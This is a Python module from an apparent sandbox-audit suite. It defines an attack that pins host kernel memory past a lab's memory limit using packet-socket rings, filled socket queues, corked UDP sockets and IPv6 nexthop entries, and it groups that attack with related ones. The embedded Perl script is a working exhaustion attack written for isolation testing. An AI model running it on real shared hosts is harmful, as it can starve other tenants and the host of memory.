"""Kernel memory that no memory limit counts: how much of the host's memory can a lab hold beyond its own limit?"""

from rigs.audit.attack import Attack, Family
from rigs.audit.families import (
    uncharged_filters,
    uncharged_interfaces,
    uncharged_packets,
    uncharged_sockets,
    uncharged_tables,
)
from rigs.audit.families.uncharged_sockets import QUEUES
from rigs.audit.uncharged_memory import MOST, is_ended
from rigs.audit.walls import GUARD

TOGETHER = Attack(
    id="M37",
    title="rings, queues of packet sockets, sockets in no list and next hops at once, each below its own bound",
    wall="what the guard allows is what the budget of rings leaves",
    perl=QUEUES
    + f"""
socket(my $ring, 17, SOCK_RAW, 0);
while (setsockopt($ring, 263, 5, pack("LLLL", 1 << 20, 2, 2048, 1024))) {{
    $held += 2 << 20;
    push @keep, $ring;
    socket($ring = undef, 17, SOCK_RAW, 0) or last;
}}
my $rings = $held;
while ($held < $rings + (12 << 20)) {{
    socket(my $socket, 17, SOCK_RAW, 3 << 8) or last;
    push @keep, $socket;
    $held += fill($socket, $there);
}}
for (1 .. 8) {{
    socket(my $socket, AF_INET, SOCK_DGRAM, 0) or last;
    setsockopt($socket, 17, 1, pack("l", 1));
    $held += send($socket, $piece, 0, $there) // 0;
    connect($socket, pack("Sx14", 0));
    push @keep, $socket;
}}
open(my $hops, "|-", "ip -6 -force -batch -");
for (my $id = 1; $held < {MOST + 4} << 20; $id++) {{
    print $hops "nexthop add id $id dev eth0\n";
    $held += 448;
}}
close $hops;
print "HELD $held\n";
sleep 15;
""",
    judge=is_ended,
    beside=True,
    control=GUARD,
)

FAMILY = Family(
    "memory that is not charged",
    (
        *uncharged_sockets.ATTACKS,
        *uncharged_packets.ATTACKS,
        *uncharged_tables.ATTACKS,
        *uncharged_interfaces.ATTACKS,
        *uncharged_filters.ATTACKS,
        TOGETHER,
    ),
)
